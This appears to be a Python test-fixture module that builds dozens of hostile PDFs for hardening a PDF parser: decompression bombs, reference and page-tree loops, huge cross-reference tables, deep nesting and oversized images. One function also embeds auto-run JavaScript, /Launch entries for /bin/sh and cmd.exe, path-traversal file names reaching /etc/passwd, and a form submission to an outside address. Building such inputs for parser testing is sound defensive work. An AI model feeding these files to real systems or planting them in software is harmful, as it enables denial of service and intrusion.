"""PDFs that mean harm, built here: bombs, loops, nesting, nonsense. `BOMBS` names them; each is a function to bytes."""

from __future__ import annotations

import zlib
from collections.abc import Callable

from pdf_objects import CATALOG, FONT, PAGE, PAGES, SENTENCE, flate, nested_flate, page_with, pdf, stream


def twice_compressed() -> bytes:
    """Two and a half kilobytes that ask for two gigabytes."""
    return page_with(stream(nested_flate(2 << 30), b"/Filter [/FlateDecode /FlateDecode] "))


def thrice_compressed() -> bytes:
    return page_with(flate(nested_flate(4 << 30), b"", times=1).replace(b"[/FlateDecode ]", b"[" + b"/Fl " * 3 + b"]"))


def run_length_of_lzw() -> bytes:
    return page_with(stream(b"\x81 " * 500_000, b"/Filter /RunLengthDecode "))


def hexadecimal_of_flate() -> bytes:
    return page_with(flate(b"20" * 50_000_000 + b">", b"").replace(b"[/FlateDecode ]", b"[/FlateDecode /AHx]"))


def bomb_after_an_honest_page() -> bytes:
    """The first page is a paper, the second asks for two gigabytes."""
    kids = b"<< /Type /Pages /Kids [3 0 R 7 0 R] /Count 2 >>"
    bomb = stream(nested_flate(2 << 30), b"/Filter [/FlateDecode /FlateDecode] ")
    second = PAGE.replace(b"4 0 R", b"8 0 R")
    return pdf([CATALOG, kids, PAGE, stream(SENTENCE), FONT, b"null", second, bomb])


def kids_loop() -> bytes:
    return pdf([CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>", PAGE, stream(SENTENCE), FONT])


def kids_that_multiply() -> bytes:
    """Twelve levels of ten kids each, all the same: a million million pages in a kilobyte."""
    levels = [b"<< /Type /Pages /Kids [" + b"%d 0 R " % (6 + n + 1) * 10 + b"] /Count 10 >>" for n in range(12)]
    return pdf([CATALOG, levels[0].replace(b"7 0 R", b"6 0 R"), PAGE, stream(SENTENCE), FONT, *levels, PAGE])


def parent_loop() -> bytes:
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 2 0 R >>"
    return pdf([CATALOG, pages, PAGE.replace(b"/MediaBox [0 0 600 800]", b""), stream(SENTENCE), FONT])


def page_of_itself() -> bytes:
    page = b"<< /Type /Page /Parent 3 0 R /MediaBox 3 0 R /Contents 3 0 R /Resources 3 0 R >>"
    return pdf([CATALOG, PAGES, page])


def reference_loop() -> bytes:
    return pdf([CATALOG, PAGES, PAGE.replace(b"4 0 R", b"6 0 R"), b"null", FONT, b"7 0 R", b"8 0 R", b"6 0 R"])


def length_of_itself() -> bytes:
    content = b"<< /Length 4 0 R >>\nstream\n" + SENTENCE + b"\nendstream"
    return page_with(content)


def contents_loop() -> bytes:
    return page_with(b"[4 0 R 4 0 R]")


def contents_many_times() -> bytes:
    """One stream of a megabyte, drawn ten thousand times."""
    page = PAGE.replace(b"4 0 R", b"[" + b"4 0 R " * 10_000 + b"]")
    return page_with(flate(SENTENCE * 10_000), page=page)


def previous_table_loop() -> bytes:
    data = page_with(stream(SENTENCE))
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Root", b"/Prev %d /Root" % start, 1) if data.count(b"/Root") == 1 else data


def _with_xref_stream(fields: bytes, body: bytes) -> bytes:
    """A PDF whose cross-reference is a stream with these fields and bytes."""
    out = bytearray(b"%PDF-1.7\n")
    for number, content in enumerate((CATALOG, PAGES, PAGE, stream(SENTENCE), FONT), start=1):
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"9 0 obj\n" + stream(body, b"/Type /XRef /Root 1 0 R " + fields) + b"\nendobj\n"
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % start)


def xref_stream_of_nothing() -> bytes:
    """Two milliard entries of no bytes each."""
    return _with_xref_stream(b"/Size 2000000000 /W [0 0 0] /Index [0 2000000000] ", b"")


def xref_stream_of_gigabytes() -> bytes:
    return _with_xref_stream(
        b"/Size 2000000000 /W [1 4 2] /Index [0 300000000] /Filter [/FlateDecode /FlateDecode] ",
        nested_flate(2 << 30, fill=1),
    )


def xref_stream_of_wide_fields() -> bytes:
    return _with_xref_stream(b"/Size 9 /W [1000000000 1000000000 1000000000] /Index [0 9] ", b"\x01" * 9000)


def xref_table_of_many() -> bytes:
    data = page_with(stream(SENTENCE))
    return data.replace(b"xref\n0 6\n", b"xref\n0 2000000000\n").replace(b"/Size 6", b"/Size 2000000000")


def object_stream_of_many() -> bytes:
    objects = stream(b"1 0 2 0 3 0", b"/Type /ObjStm /N 2000000000 /First 2000000000 ")
    return page_with(objects)


def object_stream_loop() -> bytes:
    """An object stream that says it lies inside itself."""
    rows = b"".join(bytes((2, 0, 9, n)) for n in range(10))
    return _with_xref_stream(b"/Size 10 /W [1 2 1] /Index [0 10] ", rows)


def predictor_of_wide_rows() -> bytes:
    parameters = b"/DecodeParms << /Predictor 15 /Columns 2000000000 /Colors 1000000 /BitsPerComponent 16 >> "
    return page_with(flate(b"\x02" * 1000, parameters))


def predictor_of_no_columns() -> bytes:
    return page_with(flate(b"\x02" * 1_000_000, b"/DecodeParms << /Predictor 12 /Columns 0 /Colors 0 >> "))


def predictor_of_many_rows() -> bytes:
    return page_with(flate(b"\x04 " * 20_000_000, b"/DecodeParms << /Predictor 15 /Columns 1 >> "))


def tiff_predictor() -> bytes:
    return page_with(flate(b" " * 30_000_000, b"/DecodeParms << /Predictor 2 /Columns 1 /Colors 3 >> "))


def _composite(descendant: bytes, mapping: bytes, *, encoding: bytes = b"/Identity-H") -> bytes:
    """A page in a composite font with these entries in its descendant, and this ToUnicode program."""
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding " + encoding + b" /DescendantFonts [7 0 R]"
        b" /ToUnicode 6 0 R >>"
    )
    kid = (
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity)"
        b" /Supplement 0 >> /FontDescriptor << /Type /FontDescriptor /FontName /A >> " + descendant + b" >>"
    )
    text = stream(b"BT /F 10 Tf 50 700 Td <004100420043> Tj ET")
    return page_with(text, stream(mapping), kid, font=font)


def unicode_range() -> bytes:
    return _composite(b"", b"begincmap 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange endcmap")


def unicode_ranges_by_thousands() -> bytes:
    return _composite(b"", b"begincmap 9 beginbfrange " + b"<0000> <ffff> <0041> " * 5000 + b"endbfrange endcmap")


def unicode_of_long_text() -> bytes:
    """Every letter stands for a hundred thousand."""
    letters = b"0041" * 100_000
    return _composite(b"", b"begincmap 1 beginbfchar <0041> <" + letters + b"> <0042> <" + letters + b"> endbfchar")


def unicode_array() -> bytes:
    return _composite(b"", b"begincmap 1 beginbfrange <0000> <ffff> [" + b"<0041> " * 500_000 + b"] endbfrange")


def code_range() -> bytes:
    cmap = b"begincmap 1 begincidrange <00000000> <ffffffff> 0 endcidrange endcmap"
    return _composite(b"", cmap, encoding=b"6 0 R")


def width_range() -> bytes:
    return _composite(b"/W [0 2000000000 500]", b"")


def width_ranges_of_height() -> bytes:
    return _composite(b"/W2 [0 2000000000 500 500 500]", b"", encoding=b"/Identity-V")


def widths_of_many() -> bytes:
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /A /FirstChar 0 /LastChar 2000000000 /Widths ["
    return page_with(stream(SENTENCE), font=font + b"500 " * 1_000_000 + b"] >>")


def differences_beyond() -> bytes:
    font = b"<< /Type /Font /Subtype /TrueType /BaseFont /A /Encoding << /Differences [2000000000 "
    return page_with(stream(SENTENCE), font=font + b"/a /uni110000 /u99999999 /g1e9 " * 50_000 + b"] >> >>")


def code_map_of_itself() -> bytes:
    """A code map that uses itself."""
    extra = b"/Type /CMap /CMapName /Own /UseCMap 6 0 R "
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding 6 0 R /DescendantFonts [7 0 R] >>"
    kid = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A >>"
    return page_with(stream(SENTENCE), stream(b"/Own usecmap begincmap endcmap", extra), kid, font=font)


def form_of_itself() -> bytes:
    resources = b"/Resources << /XObject << /X 6 0 R >> /Font << /F 5 0 R >> >> "
    form = stream(SENTENCE + b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] " + resources)
    return page_with(stream(SENTENCE + b"/X Do"), form)


def forms_of_each_other() -> bytes:
    def form(other: int) -> bytes:
        resources = b"/Resources << /XObject << /X %d 0 R >> /Font << /F 5 0 R >> >> " % other
        return stream(SENTENCE + b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] " + resources)

    return page_with(stream(SENTENCE + b"/X Do"), form(7), form(6))


def forms_that_multiply() -> bytes:
    """Twelve forms, each of which draws the next one ten times."""

    def form(number: int) -> bytes:
        resources = b"/Resources << /XObject << /X %d 0 R >> /Font << /F 5 0 R >> >> " % (number + 1)
        return stream(b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] " + resources)

    last = stream(SENTENCE, b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /Font << /F 5 0 R >> >> ")
    return page_with(stream(b"/X Do"), *(form(number) for number in range(6, 18)), last)


def drawn_letters_of_themselves() -> bytes:
    """A font whose letter A draws the letter A."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /A 6 0 R >>"
        b" /Encoding << /Differences [65 /A] >> /FirstChar 65 /LastChar 65 /Widths [9]"
        b" /Resources << /Font << /F 5 0 R >> >> >>"
    )
    return page_with(stream(b"BT /F 10 Tf 50 700 Td (AAA) Tj ET"), stream(b"BT /F 1 Tf (AAA) Tj ET"), font=font)


def many_pages(count: int = 20_000) -> bytes:
    kids = b"<< /Type /Pages /Kids [" + b"3 0 R " * count + b"] /Count %d >>" % count
    return pdf([CATALOG, kids, PAGE, stream(SENTENCE), FONT])


def many_pages_of_their_own(count: int = 20_000) -> bytes:
    first = 6
    kids = b"".join(b"%d 0 R " % (first + n) for n in range(count))
    tree = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count
    return pdf([CATALOG, tree, b"null", stream(SENTENCE), FONT, *([PAGE] * count)])


def many_glyphs(count: int = 1_000_000) -> bytes:
    line = b"BT /F 1 Tf %d %d Td (students 61 thousand) Tj ET\n"
    return page_with(flate(b"".join(line % (n % 60 * 10, n // 60 % 800) for n in range(count // 20))))


def many_glyphs_at_one_place(count: int = 1_000_000) -> bytes:
    return page_with(flate(b"BT /F 10 Tf 50 700 Td 0 Tz (" + b"1" * count + b") Tj ET"))


def many_rectangles(count: int = 200_000) -> bytes:
    boxes = b"".join(b"%d %d 1 1 re f " % (n % 600, n // 600) for n in range(count))
    return page_with(flate(SENTENCE + boxes))


def many_rules(count: int = 100_000) -> bytes:
    """A grid of lines, each crossing each."""
    half = count // 2
    across = b"".join(b"0 %.3f m 600 %.3f l S " % (800 * n / half, 800 * n / half) for n in range(half))
    down = b"".join(b"%.3f 0 m %.3f 800 l S " % (600 * n / half, 600 * n / half) for n in range(half))
    return page_with(flate(SENTENCE + across + down))


def long_path(count: int = 300_000) -> bytes:
    return page_with(flate(SENTENCE + b"0 0 m " + b"1 1 l 2 2 2 3 3 3 c " * count + b"S"))


def many_turned_letters(count: int = 50_000) -> bytes:
    turned = b"".join(b"0 1 -1 0 %d %d Tm (7) Tj " % (n % 600, n // 600) for n in range(count))
    return page_with(flate(b"BT /F 10 Tf " + turned + b"ET"))


def nested_arrays(depth: int = 200_000) -> bytes:
    return page_with(b"[" * depth + b"]" * depth)


def nested_dictionaries(depth: int = 100_000) -> bytes:
    return page_with(b"<< /A " * depth + b"1" + b" >>" * depth)


def nested_in_content(depth: int = 500_000) -> bytes:
    return page_with(flate(SENTENCE + b"[" * depth + b"] TJ" * 10))


def dictionaries_in_content(depth: int = 300_000) -> bytes:
    return page_with(flate(SENTENCE + b"<<" * depth + b"/A " + b">>" * depth))


def nested_states(depth: int = 1_000_000) -> bytes:
    return page_with(flate(b"q " * depth + SENTENCE + b"Q " * depth))


def nested_marks(depth: int = 300_000) -> bytes:
    return page_with(flate(b"/P << /MCID 0 >> BDC " * depth + SENTENCE + b"EMC " * depth))


def operands_without_operator(count: int = 3_000_000) -> bytes:
    return page_with(flate(SENTENCE + b"1 " * count))


def unbalanced_string(depth: int = 3_000_000) -> bytes:
    return page_with(flate(SENTENCE + b"BT /F 10 Tf (" + b"(" * depth))


def inline_picture_without_end(count: int = 3_000_000) -> bytes:
    return page_with(flate(SENTENCE + b"BI /W 100000 /H 100000 /BPC 8 /CS /G ID " + b"x" * count))


def many_inline_pictures(count: int = 100_000) -> bytes:
    return page_with(flate(SENTENCE + b"BI /W 1 /H 1 /BPC 8 /CS /G ID x EI " * count))


def long_name(length: int = 5_000_000) -> bytes:
    return page_with(flate(SENTENCE + b"/" + b"A" * length + b" gs"))


def long_number(length: int = 1_000_000) -> bytes:
    """Python would need minutes for a whole number of a million digits."""
    return page_with(stream(b"BT /F 10 Tf " + b"9" * length + b" 700 Td (61 thousand students) Tj ET"))


def _box(box: bytes) -> bytes:
    return page_with(stream(SENTENCE), page=PAGE.replace(b"[0 0 600 800]", box))


def box_of_a_planet() -> bytes:
    return _box(b"[0 0 1e30 1e30]")


def box_of_nothing() -> bytes:
    return _box(b"[0 0 0 0]")


def box_upside_down() -> bytes:
    return _box(b"[600 800 -600 -800]")


def box_of_words() -> bytes:
    return _box(b"[/a (b) null 5 0 R]")


def box_of_long_numbers() -> bytes:
    return _box(b"[0 0 " + b"9" * 400 + b" " + b"9" * 5000 + b"]")


def positions_beyond() -> bytes:
    text = b"BT /F 10 Tf 1e308 0 0 1e308 1e308 1e308 Tm (61 thousand students) Tj ET 1e400 1e400 m 0 0 l S\n"
    return page_with(stream(SENTENCE + text))


def font_of_no_size() -> bytes:
    return page_with(stream(SENTENCE.replace(b"/F 10 Tf", b"/F 0 Tf") + SENTENCE.replace(b"/F 10 Tf", b"/F -1e9 Tf")))


def turned_by_nonsense() -> bytes:
    return page_with(stream(SENTENCE), page=PAGE.replace(b"/Contents", b"/Rotate 37 /UserUnit 1e9 /Contents"))


def _picture(side: int, body: bytes, *, space: bytes = b"/DeviceGray /BitsPerComponent 8", filters: bytes) -> bytes:
    """A page that is nothing but a picture, as a scan is."""
    head = b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace " % (side, side)
    return page_with(stream(b"600 0 0 800 0 0 cm /X Do"), stream(body, head + space + b" /Filter " + filters + b" "))


def huge_picture() -> bytes:
    """A scan of a hundred thousand pixels a side: ten gigabytes in twenty kilobytes."""
    return _picture(100_000, nested_flate(1 << 30, fill=0xFF), filters=b"[/FlateDecode /FlateDecode]")


def picture_of_promises() -> bytes:
    return _picture(2_000_000_000, zlib.compress(b"\xff" * 1000), filters=b"/FlateDecode")


def picture_of_fax() -> bytes:
    parameters = b"/CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>"
    return _picture(60_000, b"\x00" * 5000, space=b"/DeviceGray /BitsPerComponent 1", filters=parameters)


def pattern_of_dust() -> bytes:
    """A page filled with a pattern that repeats every millionth of a point."""
    page = PAGE.replace(b"/Font", b"/Pattern << /P 6 0 R >> /Font").replace(b"/XObject << /X 6 0 R >>", b"")
    head = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 1e-6 /YStep 1e-6"
    pattern = stream(b"0 0 1 1 re f", head + b" /Resources << >> ")
    return page_with(stream(b"/Pattern cs /P scn 0 0 600 800 re f"), pattern, page=page)


def actions() -> bytes:
    """Scripts, programs to launch, forms to send, files inside: all to be left alone."""
    catalog = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>"
        b" /AA << /WC << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >> >>"
        b" /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS 6 0 R >>] >>"
        b" /EmbeddedFiles << /Names [(../../etc/passwd) << /Type /Filespec /F (../../../tmp/owned)"
        b" /EF << /F 7 0 R >> >>] >> >> /AcroForm << /XFA 6 0 R /Fields [] >> >>"
    )
    page = PAGE.replace(
        b"/Contents",
        b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /SubmitForm /F (http://192.0.2.1/) >> >>"
        b" << /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /F (/etc/passwd) /EF << /F 7 0 R >> >> >>] /Contents",
    )
    script = flate(b"while (true) { app.alert('61 thousand') }")
    return pdf([catalog, PAGES, page, stream(SENTENCE), FONT, script, flate(b"MZ" * 1000, b"/Type /EmbeddedFile ")])


def external_stream() -> bytes:
    """A stream whose bytes are said to lie in another file."""
    return page_with(b"<< /Length 0 /F (/etc/passwd) /FFilter /FlateDecode >>\nstream\n" + SENTENCE + b"\nendstream")


def page_labels_loop() -> bytes:
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R /PageLabels 6 0 R /Outlines 6 0 R /StructTreeRoot 6 0 R /Names 6 0 R >>",
        PAGES, PAGE, stream(SENTENCE), FONT, b"<< /Kids [6 0 R 6 0 R] /First 6 0 R /Next 6 0 R /K [6 0 R] >>",
    ])  # fmt: skip


def info_of_odd_things() -> bytes:
    data = page_with(stream(SENTENCE), b"<< /Title 6 0 R /Author [[[[1]]]] /Keywords << /A 6 0 R >> /Subject <feff> >>")
    return data.replace(b"/Root", b"/Info 6 0 R /Root", 1)


def encrypted_by_nonsense() -> bytes:
    data = page_with(stream(SENTENCE))
    locks = b"/Encrypt << /Filter /Standard /V 5 /R 6 /Length 2000000000 /O (x) /U (y) /OE () /UE () /P -1 /Perms () >>"
    return data.replace(b"/Root", locks + b" /ID [<> <>] /Root", 1)


def font_file_of_nonsense() -> bytes:
    font = FONT.replace(b"/Helvetica", b"/A /FontDescriptor << /Type /FontDescriptor /FontName /A /FontFile 6 0 R >>")
    return page_with(stream(SENTENCE), flate(b"/Encoding 256 array\n" + b"dup 65 /A put\n" * 300_000), font=font)


def font_program_of_nonsense() -> bytes:
    font = _composite(b"", b"")
    file = stream(b"\x00\x01\x00\x00\xff\xff" + b"cmap\x00\x00\x00\x00\x00\x00\x00\x0c\xff\xff\xff\xff" * 60)
    font = font.replace(b"/FontName /A >>", b"/FontName /A /FontFile2 8 0 R >>")
    return font.replace(b"xref\n0", b"8 0 obj\n" + file + b"\nendobj\nxref\n0", 1)


BOMBS: dict[str, Callable[[], bytes]] = {
    function.__name__: function
    for function in list(globals().values())
    if callable(function) and getattr(function, "__module__", "") == __name__ and not function.__name__.startswith("_")
}
"""Every PDF above by its name."""
